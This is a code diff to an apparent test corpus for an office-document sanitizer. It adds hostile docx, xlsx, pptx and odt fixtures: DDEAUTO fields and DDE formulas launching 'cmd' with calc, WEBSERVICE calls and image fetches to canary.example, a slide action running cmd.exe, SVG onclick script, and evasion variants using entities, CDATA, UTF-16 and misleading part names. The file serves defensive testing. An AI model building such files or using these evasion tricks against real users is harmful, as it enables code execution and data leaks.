@@ -1,9 +1,11 @@
 """T-55 and T-56: office files that act, carry others, or fetch. T-52: with a photo inside."""
 
+import io
 import struct
+import zipfile
 from functools import partial
 
-from tests.hostile.corpus import jpegs, metadata, offices, pngs
+from tests.hostile.corpus import heics, jpegs, metadata, offices, pngs
 from tests.hostile.corpus.hostile import CANARY, SCRIPT, fixed, item
 from tests.hostile.corpus.offices import (
     HEAD,
@@ -126,15 +128,17 @@ def template_elsewhere() -> bytes:
     return packed(parts)
 
 
-def drawing(svg: bytes) -> bytes:
-    return docx(
-        links=(relation(9, b"image", b"media/image1.svg"),),
-        types=(b'<Default Extension="svg" ContentType="image/svg+xml"/>',),
-        **{
-            "word__media__image1.svg": b'<svg xmlns="http://www.w3.org/2000/svg" '
-            b'xmlns:xlink="http://www.w3.org/1999/xlink">' + svg + b"</svg>"
-        },
+def drawing(svg: bytes, *, ending: str = "svg", kind: bytes = b"image/svg+xml") -> bytes:
+    name = f"word/media/image1.{ending}"
+    parts = docx_parts(
+        types=(override(name, kind),), links=(relation(9, b"image", name[5:].encode()),)
     )
+    parts[name] = (
+        b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
+        + svg
+        + b"</svg>"
+    )
+    return packed(parts)
 
 
 def old_drawing(attributes: bytes) -> bytes:
@@ -303,6 +307,151 @@ def drawing_inside() -> bytes:
             + b"</svg>"
         },
     )
+
+
+def field_in_another_folder() -> bytes:
+    parts = docx_parts(
+        body=b'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot; "/></w:p>'
+    )
+    parts["word/numbering.xml"] = HEAD + b'<w:numbering xmlns:w="%s"/>' % offices.WORD
+    whole = {
+        name.replace("word/document", "text/document").replace("word/_rels", "text/_rels"): body
+        for name, body in parts.items()
+    }
+    return packed(
+        {n: body.replace(b"word/document.xml", b"text/document.xml") for n, body in whole.items()}
+    )
+
+
+def document_named(name: str) -> bytes:
+    """Word goes by what a part is said to be; its name may say something else."""
+    parts = docx_parts(
+        body=b'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot; "/></w:p>'
+    )
+    parts["word/numbering.xml"] = HEAD + b'<w:numbering xmlns:w="%s"/>' % offices.WORD
+    whole = {each.replace("word/document.xml", name): body for each, body in parts.items()}
+    whole[f"word/_rels/{name.rpartition('/')[2]}.rels"] = whole.pop("word/_rels/document.xml.rels")
+    return packed({n: b.replace(b"word/document.xml", name.encode()) for n, b in whole.items()})
+
+
+def named_and_said(name: str, end: bytes) -> bytes:
+    """A second document, which is one to whoever reads a type without its case or its parameters."""
+    kind = (MAIN + b"wordprocessingml.document.main+xml").replace(b"+xml", end)
+    parts = docx_parts(types=(override(name, kind),))
+    parts[name] = offices.document(
+        b'<w:p><w:fldSimple w:instr=" DDEAUTO cmd &quot;/k calc&quot; "/></w:p>'
+    )
+    parts["_rels/.rels"] = parts["_rels/.rels"].replace(b"word/document.xml", name.encode())
+    return packed(parts)
+
+
+def formula_in_a_name() -> bytes:
+    parts = xlsx_parts()
+    names = b"<definedNames><definedName name=\"a\">cmd|'/c calc'!A1</definedName></definedNames>"
+    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(b"</sheets>", b"</sheets>" + names)
+    return packed(parts)
+
+
+def formula_of_a_rule() -> bytes:
+    """Worked out whenever the sheet is drawn."""
+    parts = xlsx_parts()
+    rule = (
+        b'<conditionalFormatting sqref="A1"><cfRule type="expression" priority="1">'
+        b"<formula>WEBSERVICE(A1)</formula></cfRule></conditionalFormatting>"
+    )
+    sheet = parts["xl/worksheets/sheet1.xml"].replace(b"</sheetData>", b"</sheetData>" + rule)
+    return packed(parts | {"xl/worksheets/sheet1.xml": sheet})
+
+
+def odt_keys() -> bytes:
+    """A document may bring its own keys and menus, which call scripts of the program's."""
+    path = "Configurations2/accelerator/current.xml"
+    keys = (
+        b'<accel:acceleratorlist xmlns:accel="http://openoffice.org/2001/accel" '
+        b'xmlns:xlink="http://www.w3.org/1999/xlink"><accel:item accel:code="KEY_A" '
+        b'xlink:href="vnd.sun.star.script:a.py$x?language=Python&amp;location=share"/>'
+        b"</accel:acceleratorlist>"
+    )
+    entry = b'<manifest:file-entry manifest:full-path="%s" manifest:media-type=""/>'
+    return odt(entries=entry % path.encode(), **{path.replace("/", "__"): keys})
+
+
+def formula_in_another_folder(folder: str) -> bytes:
+    parts = xlsx_parts(cell=b'<c r="A1"><f>WEBSERVICE("http://canary.example/")</f><v>1</v></c>')
+    at = f"{folder}/sheet1.xml"
+    parts[at] = parts.pop("xl/worksheets/sheet1.xml")
+    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
+        b"/xl/worksheets/sheet1.xml", f"/{at}".encode()
+    )
+    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"worksheets/sheet1.xml", f"/{at}".encode()
+    )
+    return packed(parts)
+
+
+def formula_in_utf_16() -> bytes:
+    parts = xlsx_parts(cell=b'<c r="A1"><f>WEBSERVICE("http://canary.example/")</f><v>1</v></c>')
+    sheet = parts["xl/worksheets/sheet1.xml"].replace(b'"UTF-8"', b'"UTF-16"')
+    return packed(parts | {"xl/worksheets/sheet1.xml": sheet.decode().encode("utf-16")})
+
+
+def chart(workbook: bytes) -> bytes:
+    """A chart has a workbook of its own inside: the one embedded file that is no passenger."""
+    kind = MAIN + b"drawingml.chart+xml"
+    parts = docx_parts(
+        types=(
+            override("word/charts/chart1.xml", kind),
+            b'<Default Extension="xlsx" '
+            b'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
+        ),
+        links=(relation(9, b"chart", b"charts/chart1.xml"),),
+    )
+    parts["word/charts/chart1.xml"] = (
+        HEAD
+        + b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart" '
+        + b'xmlns:r="%s"><c:externalData r:id="rId1"/></c:chartSpace>' % offices.OFFICE
+    )
+    parts["word/charts/_rels/chart1.xml.rels"] = offices.relations(
+        relation(1, b"package", b"../embeddings/Microsoft_Excel_Sheet1.xlsx")
+    )
+    parts["word/embeddings/Microsoft_Excel_Sheet1.xlsx"] = workbook
+    return packed(parts)
+
+
+def vml_part(attribute: bytes) -> bytes:
+    return packed(
+        xlsx_parts()
+        | {
+            "xl/drawings/vmlDrawing1.vml": b'<xml xmlns:v="urn:schemas-microsoft-com:vml" '
+            b'xmlns:o="urn:schemas-microsoft-com:office:office"><v:shape><v:imagedata '
+            + attribute
+            + b"/></v:shape></xml>"
+        }
+    )
+
+
+def film_in_slides() -> bytes:
+    return packed(offices.pptx_parts() | {"ppt/media/media1.mp4": heics.brand(b"isom")})
+
+
+def written_as_a_stream() -> bytes:
+    """As programs write that cannot go back: the sizes follow each part."""
+
+    class Pipe(io.RawIOBase):
+        out = b""
+
+        def writable(self) -> bool:
+            return True
+
+        def write(self, piece: bytes) -> int:
+            self.out += bytes(piece)
+            return len(piece)
+
+    pipe = Pipe()
+    with zipfile.ZipFile(pipe, "w", zipfile.ZIP_DEFLATED) as whole:
+        for name, content in docx_parts().items():
+            whole.writestr(name, content)
+    return pipe.out
 
 
 def odt_with_script(path: str) -> bytes:
@@ -587,6 +736,88 @@ ITEMS = (
         "T-55-slide-linked-to-a-share",
         "talk.pptx",
         partial(slide, b"ppaction://hlinkfile", b"file:///\\\\canary.example\\run.exe"),
+    ),
+    refused("T-55-field-in-another-folder", "a.docx", field_in_another_folder),
+    refused(
+        "T-55-formula-in-another-folder",
+        "sums.xlsx",
+        partial(formula_in_another_folder, "xl/cells"),
+    ),
+    refused(
+        "T-55-formula-outside-every-folder",
+        "sums.xlsx",
+        partial(formula_in_another_folder, "cells"),
+    ),
+    refused("T-55-formula-in-utf-16", "sums.xlsx", formula_in_utf_16),
+    refused(
+        "T-55-formula-spelt-with-numbers",
+        "sums.xlsx",
+        partial(formula, b"&#87;EB<!-- -->SERVICE(A1)"),
+    ),
+    refused(
+        "T-55-formula-in-raw-words", "sums.xlsx", partial(formula, b"<![CDATA[WEBSERVICE(A1)]]>")
+    ),
+    refused(
+        "T-55-slide-spelt-with-numbers",
+        "talk.pptx",
+        partial(slide, b"ppaction://prog&#114;am", b"cmd.exe"),
+    ),
+    refused(
+        "T-55-drawing-part-from-elsewhere",
+        "sums.xlsx",
+        partial(vml_part, b"src='http://canary.example/a.png'"),
+    ),
+    refused(
+        "T-55-drawing-part-spelt-with-numbers",
+        "sums.xlsx",
+        partial(vml_part, b"src='&#104;ttp://canary.example/a.png'"),
+    ),
+    refused(
+        "T-55-workbook-with-macro-behind-a-chart",
+        "a.docx",
+        lambda: chart(workbook_with_macro(BOOK_MACROS)),
+    ),
+    refused(
+        "T-55-workbook-that-fetches-behind-a-chart", "a.docx", lambda: chart(formula_in_utf_16())
+    ),
+    refused(
+        "T-55-locked-workbook-behind-a-chart", "a.docx", lambda: chart(compound("EncryptedPackage"))
+    ),
+    at_once("T-56-film-in-slides", "talk.pptx", film_in_slides),
+    refused("T-55-document-named-as-font", "a.docx", partial(document_named, "word/document.ttf")),
+    refused(
+        "T-54-drawing-in-docx-said-to-be-xml",
+        "a.docx",
+        partial(drawing, b"<rect onclick='alert(1)'/>", kind=b"application/xml"),
+    ),
+    refused(
+        "T-54-drawing-in-docx-named-xml",
+        "a.docx",
+        partial(drawing, b"<rect onclick='alert(1)'/>", ending="xml"),
+    ),
+    refused(
+        "T-54-drawing-in-docx-named-png",
+        "a.docx",
+        partial(drawing, b"<rect onclick='alert(1)'/>", ending="png"),
+    ),
+    cleaned("T-54-drawing-in-docx-of-shapes", "a.docx", partial(drawing, b"<rect width='9'/>")),
+    *(
+        refused(f"T-55-document-named-as-{label}", "a.docx", partial(named_and_said, name, end))
+        for label, name, end in (
+            ("font-in-capitals", "word/second.ttf", b"+XML"),
+            ("drawing-in-capitals", "word/second.vml", b"+XML"),
+            ("drawing-with-parameters", "word/second.vml", b"+xml; a=b"),
+        )
+    ),
+    refused(
+        "T-55-document-named-as-drawing", "a.docx", partial(document_named, "word/document.vml")
+    ),
+    refused("T-55-document-named-as-list", "a.docx", partial(document_named, "word/document.rdf")),
+    refused("T-55-formula-in-a-name", "sums.xlsx", formula_in_a_name),
+    refused("T-55-formula-of-a-rule", "sums.xlsx", formula_of_a_rule),
+    # Left out: nobody sends keys and menus on purpose.
+    item(
+        "T-56-odt-keys-that-call", "a.odt", odt_keys, "cleaned", never=(b"vnd.sun.star", b"accel")
     ),
     refused(
         "T-55-field-in-pieces-that-starts-a-program",
